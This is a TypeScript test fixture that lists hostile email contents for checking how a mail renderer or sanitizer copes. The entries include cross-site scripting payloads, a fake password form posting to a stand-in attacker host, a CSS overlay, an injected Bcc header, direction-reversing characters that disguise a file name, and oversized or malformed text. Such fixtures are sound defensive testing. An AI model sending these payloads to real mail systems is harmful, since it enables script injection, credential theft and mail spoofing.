/** What strangers put into mails. */
export const ATTACKS: Readonly<Record<string, string>> = {
  script: '<script>window.pwned=1</script>',
  image: '"><img src=x onerror="window.pwned=1">',
  svg: '<svg onload=window.pwned=1><a href="https://evil.example">x</a>',
  form: '<form action="https://evil.example"><input name=password><button>Take it</button></form>',
  'style that covers': '</style><div style="position:fixed;inset:0;background:url(https://evil.example/p.gif)">',
  'comment that swallows': '<!-- <![endif]--> --> <![CDATA[ <!',
  'address that runs': 'javascript:window.pwned=1 <a href="javascript:window.pwned=1">',
  'link that a mail program makes': 'see https://evil.example/login and www.evil.example and HTTP://evil.example',
  'header that follows': 'hi\r\nBcc: everybody@evil.example\r\n\r\n<h1>new body</h1>',
  'letters that turn': 'invoice\u202Eexe.fdp\u2066 \u200Fabc\u061C\u200B\uFEFF',
  'control letters': 'a\u0000b\u0007c\u001B[31md\u0085e\u2028f\u2029g\u000Bh',
  'half a letter and towers of accents': `\uD800 a${'\u0301'.repeat(400)} \uDC00`,
  'a hundred thousand letters': `${'A'.repeat(100_000)} ${'word '.repeat(2_000)}`,
  'entities and templates': '&lt;b&gt; {{message}} ${x} %s &#60;script&#62; # heading\n> panel\n--\nsmall',
  'words of another direction': 'لا يمكنني تسجيل الدخول https://evil.example/ עברית',
};
